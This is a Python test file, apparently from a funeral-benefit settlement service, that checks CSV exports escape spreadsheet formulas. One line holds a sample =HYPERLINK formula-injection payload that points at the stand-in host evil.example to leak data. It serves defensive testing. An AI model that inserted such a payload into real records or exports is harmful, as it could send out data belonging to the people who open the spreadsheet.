"""Issue 12 item 5: a funeral home named like a spreadsheet formula reaches the settlement CSVs
as text, never as a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from tests.plugins.funeral.support import person_number, roster, waiver

pytestmark = pytest.mark.db
EVIL = '=HYPERLINK("http://evil.example/?leak","点击查看")'


async def test_a_formula_as_funeral_home_is_text_in_every_csv(client, clerk, reviewer, set_today):
    await set_today(dt.date(2026, 2, 10))
    number = person_number(dt.date(1940, 1, 1), seq=41)
    await roster((number, "逝者", "dibao", dt.date(2020, 1, 1), None))
    body = waiver(number, dt.date(2026, 2, 8), name="逝者", home=EVIL)
    r = await client.post("/api/v1/funeral/waivers", json=body, headers=clerk)
    assert r.status_code == 201, r.text

    r = await client.get("/api/v1/funeral/settlements/2026-02/csv", headers=reviewer)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + EVIL
    r = await client.get(
        "/api/v1/funeral/settlements/2026-02/cases/csv",
        params={"funeral_home": EVIL},
        headers=reviewer,
    )
    assert r.status_code == 200, r.text
    text = r.content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row), row
